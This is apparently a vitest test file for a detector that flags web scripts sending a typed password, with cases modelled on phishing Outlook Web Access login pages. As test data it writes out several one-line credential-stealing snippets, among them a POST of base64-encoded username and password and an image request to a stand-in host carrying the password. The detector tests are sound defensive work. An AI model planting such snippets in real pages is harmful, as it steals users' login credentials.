import { expect, it } from 'vitest'
import { scriptTraits } from './script-traits.ts'

const sends = (script: string): boolean => scriptTraits(script).traits.includes('sends-password')

it.each([
  'x.open("POST","/owa/auth/errorFE.aspx?q="+btoa(u.value+":"+document.getElementById("password").value),true)',
  "fetch('/a', { method: 'POST', body: $('#password').val() })",
  "var p = gbid('passwordText').value; var i = new Image(); i.src = 'https://x.example/?' + p",
  'navigator.sendBeacon("/owa/auth/x", document.forms[0].password.value)',
  'gbid("password").value == ""; '.repeat(20) + 'x.send(gbid("passwd").value)',
])('sends what is typed: %s', (script) => expect(sends(script)).toBe(true))

it.each([
  'if (gbid("password").value == "") { return false } document.forms[0].submit(); window.open("/owa")',
  'function a() { document.getElementById("passwordText").value = ""; gbid("password").focus() }',
  'var x = new XMLHttpRequest(); x.open("GET", "/owa/ping"); x.send(); gbid("password").value = ""',
])('only reads what is typed: %s', (script) => expect(sends(script)).toBe(false))

it('reads text that is made to be slow once and no more', () => {
  for (const part of ['fetch(', 'password.value ', '.src=']) expect(sends(part.repeat(200_000))).toBe(false)
})
